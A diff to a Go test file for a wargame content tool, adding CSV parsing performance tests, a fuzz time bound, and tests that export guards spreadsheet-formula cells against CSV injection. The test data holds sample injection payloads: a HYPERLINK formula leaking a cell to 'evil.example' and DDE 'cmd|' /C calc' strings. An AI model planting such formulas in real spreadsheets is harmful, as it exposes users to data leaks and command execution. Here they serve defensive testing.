@@ -2,6 +2,7 @@ package content
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"os"
@@ -9,8 +10,10 @@ import (
 	"reflect"
 	"strings"
 	"testing"
+	"unicode/utf8"
 
 	"github.com/muster-wargames/muster/content/diag"
+	"github.com/muster-wargames/muster/internal/fuzzbound"
 )
 
 var testStats = statNames{ids: []string{"movement", "attack", "defense"}, known: map[string]bool{"movement": true, "attack": true, "defense": true},
@@ -164,6 +167,67 @@ func TestCSVLargeFiles(t *testing.T) {
 	}
 }
 
+// Positions cost one pass over a file, however its cells lie (issue 26: a header of 400,000 columns took
+// 175 s, a one-row file of 1.9 MB 52 s, as each cell's column was counted again from its line's start): the
+// bytes counted to place every cell are at most the file's, and the places are still right.
+func TestCSVReadsInOnePass(t *testing.T) {
+	var row strings.Builder
+	row.WriteString("id,name\n")
+	for i := range 200_000 {
+		fmt.Fprintf(&row, "é%d,", i) // 2 MB in one row, multi-byte text
+	}
+	var wide strings.Builder
+	wide.WriteString("id,name")
+	for range 200_000 {
+		wide.WriteString(",atk")
+	}
+	wide.WriteString("\nx,y\n")
+	for _, c := range []struct {
+		data      string
+		rec, cell int // the cell checked: its record, its index
+		col       int // its column, in characters
+	}{
+		{row.String(), 1, 200_000, utf8.RuneCountInString(row.String()) - len("id,name\n") + 1},
+		{wide.String(), 0, 200_001, len("id,name") + 4*200_000 - 2},
+	} {
+		var ds diag.List
+		f := &csvFile{path: "u.csv", data: []byte(c.data), ds: &ds}
+		recs := f.records(',', MaxDocuments)
+		if f.scanned > len(c.data) {
+			t.Errorf("%d bytes counted for a file of %d", f.scanned, len(c.data))
+		}
+		if len(recs) != 2 || len(recs[c.rec]) != c.cell+1 || recs[c.rec][c.cell].col != c.col {
+			t.Fatalf("%d records, %v", len(recs), ds)
+		}
+	}
+	// Read whole, the wide header is refused after maxProblems unknown columns, not 200,000 of them.
+	_, ds := readUnits(t, wide.String())
+	if len(ds) != maxProblems+1 || ds[len(ds)-1].Code != "csv.too-many-problems" {
+		t.Errorf("%d diagnostics, the last %v", len(ds), ds[len(ds)-1])
+	}
+}
+
+// BenchmarkReadCSV16MB reads a spreadsheet of 16 MB, the most muster reads from one file: 10,000 unit rows
+// with notes of 1.6 KB in multi-byte text between their other cells. It reports MB/s.
+func BenchmarkReadCSV16MB(b *testing.B) {
+	var s strings.Builder
+	s.WriteString("id,name,source,faction,classes,movement,attack,defense\n")
+	note := strings.Repeat("Légion ½ — ", 110)
+	for i := 0; s.Len() < MaxFileBytes-2000; i++ {
+		fmt.Fprintf(&s, "u%d,Unit %d,\"%s, %d\",roman,combat roman,%d,%d*,3\n", i, i, note, i, i%4, i%5)
+	}
+	data := []byte(s.String())
+	rows := bytes.Count(data, []byte("\n")) - 1
+	b.SetBytes(int64(len(data)))
+	b.ResetTimer()
+	for b.Loop() {
+		docs, ds := parseCSV("units.csv", data, KindUnitType, "", testStats, &valueBudget{})
+		if len(docs) != rows || len(ds) != 0 {
+			b.Fatal(len(docs), ds)
+		}
+	}
+}
+
 // Counter-mix lines and table rows fill one document, and join a YAML document of the same id.
 func TestCSVIncludesInAPackage(t *testing.T) {
 	dir := t.TempDir()
@@ -283,6 +347,106 @@ func TestExportCSVReadsBack(t *testing.T) {
 	}
 }
 
+// GuardCell writes what a spreadsheet would run as a formula after an apostrophe (OWASP's CSV injection
+// guidance: =, +, -, @, tab, carriage return), leaves plain numbers and modifiers (-1, +2) as they are, and
+// the reader reads every guarded cell back to the value it guards.
+func TestGuardCell(t *testing.T) {
+	for _, c := range []struct{ value, written string }{
+		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
+		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
+		{"+1+1", "'+1+1"},
+		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
+		{"\t=1+2", "'\t=1+2"},
+		{"\r=1+2", "'\r=1+2"},
+		{"-1/2", "'-1/2"}, // muster's half, which a spreadsheet would divide
+		{"-", "'-"},
+		{"'=x", "''=x"}, // an apostrophe the reader would take off is kept by another
+		{"''", "'''"},
+		{"-1", "-1"}, {"+1", "+1"}, {"-0.5", "-0.5"}, {"+.5", "+.5"}, {"-1e3", "-1e3"}, {"12", "12"},
+		{"'tis", "'tis"}, {"'", "'"}, {"Knights, mounted", "Knights, mounted"}, {"1-1", "1-1"}, {"", ""},
+	} {
+		if got := GuardCell(c.value); got != c.written {
+			t.Errorf("GuardCell(%q) = %q, want %q", c.value, got, c.written)
+		}
+		if c.value == "" {
+			continue
+		}
+		var b bytes.Buffer
+		w := csv.NewWriter(&b)
+		writeGuarded(w, []string{"id", "name"})
+		writeGuarded(w, []string{"x", c.value})
+		w.Flush()
+		docs, ds := readUnits(t, b.String())
+		if len(docs) != 1 || len(ds) != 0 {
+			t.Fatalf("%q: %d documents, %v", c.value, len(docs), ds)
+		}
+		if got := docs[0].Value.(map[string]any)["name"]; got != c.value {
+			t.Errorf("%q read back as %q from %q", c.value, got, b.String())
+		}
+	}
+}
+
+// muster export csv writes no cell a spreadsheet runs, and reads its own spreadsheets back to the package's
+// values: names and sources that are formulas, table cells that are modifiers (-1, +1, which stay numbers
+// in the spreadsheet) and halves (-1/2, which a spreadsheet would divide).
+func TestExportCSVGuardsFormulas(t *testing.T) {
+	dir := t.TempDir()
+	write := func(name, text string) {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write("muster.yaml", "kind: Package\nid: g\nversion: 1.0.0\nsystem: s\n")
+	write("system.yaml", "kind: System\nid: s\nstats:\n  - {id: movement, abbr: MA}\n")
+	write("units.yaml", `kind: UnitType
+id: inf
+name: "=HYPERLINK(\"http://evil.example\",\"Infantry\")"
+source: "@SUM(1+1)*cmd|' /C calc'!A0"
+stats: {movement: "+1+1"}
+`)
+	write("crt.yaml", `kind: Table
+id: crt
+corner: "=1+2"
+columns: ["-1", "+1", "-1/2"]
+rows:
+  - {label: "-2", cells: ["-1", "+1", "-1/2"], source: "=cmd"}
+`)
+	pkg, ds := Load(dir)
+	if ds.HasErrors() {
+		t.Fatal(ds)
+	}
+	files, _ := ExportCSV(pkg)
+	stats := systemStats("s", pkg.Docs)
+	for _, f := range files {
+		r := csv.NewReader(bytes.NewReader(f.Data))
+		r.FieldsPerRecord = -1
+		recs, err := r.ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, rec := range recs {
+			for _, cell := range rec {
+				if cell != "" && strings.IndexByte(formulaStarts, cell[0]) >= 0 && !plainNumber(cell) {
+					t.Errorf("%s: the cell %q would run in a spreadsheet", f.Path, cell)
+				}
+			}
+		}
+		back, rds := parseCSV(f.Path, f.Data, f.Include.Kind, f.Include.ID, stats, &valueBudget{})
+		if len(rds) != 0 || len(back) != 1 {
+			t.Fatalf("%s: %d documents, %v", f.Path, len(back), rds)
+		}
+		want := keep(pkg.find(back[0].Kind, back[0].ID).Value, csvShapes[back[0].Kind].rowsKey)
+		if !reflect.DeepEqual(back[0].Value, want) {
+			a, _ := json.Marshal(back[0].Value)
+			b, _ := json.Marshal(want)
+			t.Errorf("%s:\n got %s\nwant %s", f.Path, a, b)
+		}
+	}
+	if len(files) != 2 || !bytes.Contains(files[1].Data, []byte("-2,-1,+1,'-1/2,'=cmd")) {
+		t.Errorf("the table is written\n%s", files[len(files)-1].Data)
+	}
+}
+
 // keep is a document's value without what a spreadsheet does not hold (a rows document's other keys).
 func keep(v any, rowsKey string) any {
 	m := v.(map[string]any)
@@ -326,7 +490,8 @@ func BenchmarkReadCSV10k(b *testing.B) {
 }
 
 // FuzzParseCSV reads arbitrary bytes as a spreadsheet of each kind: it never panics, every diagnostic names
-// the file with a severity, and every value of every document lies on a line of the file, inside it.
+// the file with a severity, every value of every document lies on a line of the file, inside it, and placing
+// the cells counts no more bytes than the file has (while fuzzing, an input also runs in under a second).
 func FuzzParseCSV(f *testing.F) {
 	f.Add([]byte("id,name,classes,movement,back.stats.attack\nknight,\"K, m\",combat feudal,2,3*\n"), 0)
 	f.Add([]byte("\ufeffunit,count,size\r\ninf,12,0.5in\r\n\"a\"\"b\",x\n"), 2)
@@ -334,27 +499,36 @@ func FuzzParseCSV(f *testing.F) {
 	f.Add([]byte("id,nmae,=HYPERLINK(\"x\")\na,b\"c,d\n\"open"), 1)
 	f.Fuzz(func(t *testing.T, data []byte, k int) {
 		kind := CSVKinds[((k%len(CSVKinds))+len(CSVKinds))%len(CSVKinds)]
-		docs, ds := parseCSV("f.csv", data, kind, "x", testStats, &valueBudget{})
-		lines := bytes.Count(data, []byte("\n")) + 1
-		for _, d := range ds {
-			if !d.Severity.Valid() || d.Pos.File != "f.csv" || d.Pos.Line < 0 || d.Pos.Line > lines {
-				t.Fatalf("bad diagnostic %+v (%d lines)", d, lines)
-			}
-		}
-		for _, d := range docs {
-			d.index()
-			if len(d.nodes) == 0 {
-				t.Fatalf("%s/%s indexes no values", d.Kind, d.ID)
-			}
-			for ptr := range d.nodes {
-				p := d.PosOf(ptr)
-				if p.Line < 1 || p.Line > lines || p.Col < 1 {
-					t.Fatalf("%s of %s/%s at %v (%d lines)", ptr, d.Kind, d.ID, p, lines)
+		fuzzbound.Run(t, func() error {
+			docs, ds := parseCSV("f.csv", data, kind, "x", testStats, &valueBudget{})
+			lines := bytes.Count(data, []byte("\n")) + 1
+			for _, d := range ds {
+				if !d.Severity.Valid() || d.Pos.File != "f.csv" || d.Pos.Line < 0 || d.Pos.Line > lines {
+					return fmt.Errorf("bad diagnostic %+v (%d lines)", d, lines)
 				}
 			}
-			if d.Kind != kind {
-				t.Fatalf("a %s file made a %q document", kind, d.Kind)
+			for _, d := range docs {
+				d.index()
+				if len(d.nodes) == 0 {
+					return fmt.Errorf("%s/%s indexes no values", d.Kind, d.ID)
+				}
+				for ptr := range d.nodes {
+					p := d.PosOf(ptr)
+					if p.Line < 1 || p.Line > lines || p.Col < 1 {
+						return fmt.Errorf("%s of %s/%s at %v (%d lines)", ptr, d.Kind, d.ID, p, lines)
+					}
+				}
+				if d.Kind != kind {
+					return fmt.Errorf("a %s file made a %q document", kind, d.Kind)
+				}
 			}
-		}
+			var fds diag.List
+			f := &csvFile{path: "f.csv", data: bytes.TrimPrefix(data, utf8BOM), ds: &fds}
+			f.records(',', MaxDocuments)
+			if f.scanned > len(data) {
+				return fmt.Errorf("placing the cells counted %d bytes of %d", f.scanned, len(data))
+			}
+			return nil
+		})
 	})
 }
